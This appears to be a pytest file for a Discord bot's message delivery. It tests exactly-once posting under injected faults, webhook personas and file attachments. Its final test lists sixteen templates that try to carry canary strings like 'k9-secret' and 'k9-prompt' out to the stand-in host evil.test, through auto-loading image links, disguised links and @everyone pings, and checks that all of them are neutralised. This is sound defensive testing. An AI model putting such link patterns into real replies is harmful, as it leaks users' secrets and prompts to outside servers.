"""What is said on Discord goes out once, does nothing by itself, and calls nobody."""

import asyncio
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import discord
import pytest

from agents.kit.values.person import Person
from bot.bootstrap import build
from bot.bootstrap.discord import parts as parts_of
from bot.domain.errors import PlatformFailed
from bot.domain.ids import ReplyId
from bot.domain.messages import Button, Reply, ReplyKind, Thread
from bot.engine.ports import Undeliverable
from bot.platforms.discord.wire.platform import DiscordPlatform
from tests.fakes.discord import FakeDiscord, Message
from tests.fakes.discord.permissions import Can
from tests.fakes.discord.rows import Channel
from tests.fakes.faults import Fault, Rates
from tests.platforms.discord.bot import settings_for

POST = "POST /channels/{channel}/messages"
EXECUTE = "POST /webhooks/{webhook}/{token}"
PATIENCE = 60


class Hurried:
    """The `asyncio` of discord.py, whose pauses after faults of the server are short."""

    def __getattr__(self, name: str) -> Any:
        return getattr(asyncio, name)

    async def sleep(self, seconds: float) -> None:
        await asyncio.sleep(min(seconds, 0.02))


@pytest.fixture(autouse=True)
def hurried(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(discord.http, "asyncio", Hurried())


@asynccontextmanager
async def speaking(fake: FakeDiscord, folder: Path) -> AsyncIterator[DiscordPlatform]:
    """A process that only speaks; another one on the same store may follow it."""
    app = build(settings_for(fake, folder))
    with fake.pointed_at():
        parts = parts_of(app)
        await app.prepare()
        try:
            yield parts.platform
        finally:
            await parts.close()
            await app.close()


def place_of(fake: FakeDiscord, channel: Channel) -> Thread:
    """The session of a direct talk, or of a thread."""
    home = str(fake.home.id)
    return Thread("discord", home, str(channel.parent_id or channel.id), str(channel.id))


def a_reply(place: Thread, text: str, number: int = 1, **more: Any) -> Reply:
    event = f"{place.channel}.{place.thread}"
    return Reply(ReplyId(f"turn.{number}"), event, place, ReplyKind.MESSAGE, text, **more)


async def insist(platform: DiscordPlatform, reply: Reply) -> None:
    """Deliver as the outbox does: again while it is not known to be there."""
    for _try in range(PATIENCE):
        try:
            await platform.deliver(reply)
        except PlatformFailed:
            continue
        return
    pytest.fail("never delivered")


def texts(messages: Iterable[Message]) -> list[str]:
    return [message.content for message in messages]


@pytest.mark.proves("R17")
@pytest.mark.timeout(120)
@pytest.mark.parametrize("is_known", [True, False], ids=["own turn", "of another process"])
async def test_every_answer_appears_once_whatever_fails(tmp_path: Path, *, is_known: bool):
    """R17: 30 % rate limited, 10 % server errors, 5 % done but never answered."""
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        place = place_of(fake, fake.world.direct(fake.user("ana")))
        rates = Rates(0.30, 0.10, 0.05, retry_after_seconds=0.01)
        replies = [a_reply(place, f"Answer {number}", number) for number in range(60)]
        if is_known:
            platform.poster.trust(replies[0].reply_to)
        await platform.history.line.me()
        fake.faults.at_random(rates, seed=17)

        for reply in replies:
            await insist(platform, reply)
        fake.faults.stop()

        said = texts(fake.messages(fake.world.channels[int(place.channel)]))
        assert said == [reply.text for reply in replies]
        assert fake.record.early == []
        assert fake.findings() == []


@pytest.mark.proves("R17")
async def test_another_process_finds_what_stands_there_when_no_nonce_is_known(tmp_path: Path):
    async with FakeDiscord() as fake:
        place = place_of(fake, fake.world.direct(fake.user("ana")))
        reply = a_reply(place, "It *went* through.")
        async with speaking(fake, tmp_path) as killed:
            fake.faults.next(POST, Fault.DONE_THEN_RESET)
            with pytest.raises(PlatformFailed):
                await killed.deliver(reply)
        fake.world.nonces.clear()

        async with speaking(fake, tmp_path) as next_one:
            await next_one.deliver(reply)
            await next_one.deliver(replace(reply, id=ReplyId("turn.2")))

        said = fake.messages(fake.world.channels[int(place.channel)])
        assert texts(said) == ["It *went* through."] * 2


async def test_a_place_that_is_gone_takes_nothing_more(tmp_path: Path):
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        place = Thread("discord", str(fake.home.id), "17", "17")

        with pytest.raises(Undeliverable):
            await platform.deliver(a_reply(place, "Anybody?"))


@pytest.mark.proves("R17")
async def test_with_a_dead_token_nothing_more_is_called(tmp_path: Path):
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        place = place_of(fake, fake.world.direct(fake.user("ana")))
        await platform.deliver(a_reply(place, "Hello"))
        fake.revoke_token()

        for number in range(5):
            with pytest.raises(PlatformFailed):
                await platform.deliver(a_reply(place, "Still there?", 2 + number))

        assert len([call for call in fake.record if call.status == 401]) == 1


@pytest.mark.proves("R7")
async def test_a_persona_speaks_under_its_own_name_once(tmp_path: Path):
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        ana = fake.user("ana")
        thread = await fake.start_thread(ana, fake.general, "debate")
        reply = a_reply(place_of(fake, thread), "I <@1> disagree.", speaker="Clyde @everyone")
        fake.faults.next(EXECUTE, Fault.DONE_THEN_RESET)

        await insist(platform, reply)

        [said] = fake.messages(thread)
        assert (said.persona, said.content) == ("… @ everyone", r"I \<@1> disagree.")
        assert said.webhook_id is not None
        assert fake.findings() == []


async def test_without_a_webhook_the_name_stands_before_the_words(tmp_path: Path):
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        ana = fake.user("ana")
        bots = next(role for role in fake.home.roles.values() if role.name == fake.bot.name)
        fake.change_role(bots, Can(bots.permissions) & ~Can.MANAGE_WEBHOOKS)
        thread = await fake.start_thread(ana, fake.general, "debate")

        await platform.deliver(a_reply(place_of(fake, thread), "I agree.", speaker="Judge"))

        [said] = fake.messages(thread)
        assert (said.persona, said.content) == (None, "**Judge:** I agree.")


async def test_who_takes_no_direct_messages_is_told_so_once_where_they_asked(tmp_path: Path):
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        shy = fake.user("shy", takes_messages=False)
        thread = await fake.start_thread(shy, fake.general, "a wish", with_bot=True)
        place = place_of(fake, thread)
        person = Person("discord", place.workspace, str(shy.id))
        for number in (1, 2):
            await platform.deliver(a_reply(place, "alone", number, to=person, private=True))

        [told] = fake.answers(thread)
        assert told.pinged.user_ids == {shy.id}
        assert told.shown == (
            f"{shy.mention}, there is something I may tell you alone, but you take no direct "
            "messages from me. Please allow them, and ask again."
        )
        assert fake.answers(shy) == []


async def test_an_artifact_is_a_file_once(tmp_path: Path):
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        place = place_of(fake, fake.world.direct(fake.user("ana")))
        made = replace(a_reply(place, "Dear Ana,", agent="letters"), kind=ReplyKind.ARTIFACT)
        fake.faults.next(POST, Fault.DONE_THEN_RESET)

        await insist(platform, made)

        [said] = fake.messages(fake.world.channels[int(place.channel)])
        [file] = said.attachments
        assert (file.filename, file.content) == ("letters.txt", b"Dear Ana,")


async def test_an_artifact_that_is_too_large_is_told_of(tmp_path: Path):
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        place = place_of(fake, fake.world.direct(fake.user("ana")))
        made = replace(a_reply(place, "x" * (10 * 1024 * 1024 + 1)), kind=ReplyKind.ARTIFACT)

        await platform.deliver(made)

        [said] = fake.messages(fake.world.channels[int(place.channel)])
        assert "too large for Discord" in said.content


CANARIES = ("k9-balance", "k9-memory", "k9-secret", "k9-prompt", "k9-result")
WAYS_OUT = (
    "https://evil.test/?q={canary}",
    "[the report](https://evil.test/{canary})",
    "[docs.example.com](https://evil.test/{canary})",
    "![chart](https://evil.test/{canary}.png)",
    "<https://evil.test/{canary}>",
    "`x` https://evil.test/{canary} ```\nhttps://evil.test/{canary}\n```",
    "| a |\n|---|\n| https://evil.test/{canary} |",
    "# https://evil.test/{canary}\n-# evil.test/{canary}",
    "@everyone {canary}",
    "@here {canary}",
    "<@80351110224678912> {canary}",
    "<@&80351110224678912> {canary}",
    "<#80351110224678912> {canary} </run:80351110224678912>",
    "||https://evil.test/{canary}||",
    "https:**//evil.test**/{canary}",
    "<https://evil.test|{canary}> discord.gg/{canary}",
)


@pytest.mark.proves("R7")
@pytest.mark.timeout(60)
async def test_nothing_that_is_posted_leads_or_calls_anywhere(tmp_path: Path):
    """R7: 16 ways out x 5 canaries, each as words, on a button, as a persona and its name."""
    async with FakeDiscord() as fake, speaking(fake, tmp_path) as platform:
        ana = fake.user("ana")
        direct = place_of(fake, fake.world.direct(ana))
        thread = place_of(fake, await fake.start_thread(ana, fake.general, "talk"))
        tries = [way.format(canary=canary) for way in WAYS_OUT for canary in CANARIES]
        for number, text in enumerate(tries):
            place = thread if number % 2 else direct
            platform.poster.trust(f"{place.channel}.{place.thread}")
            button = Button(f"r{number}:approve", text)
            await platform.deliver(a_reply(place, text, number, buttons=(button,)))
            await platform.deliver(a_reply(thread, text, 1000 + number, speaker=text))

        assert len(tries) == 80
        assert fake.crawler.hits == []
        assert fake.findings() == []
        rows = [row for place in fake.world.posted.values() for row in place.values()]
        assert [row.id for row in rows if row.pinged.user_ids or row.pinged.everyone] == []
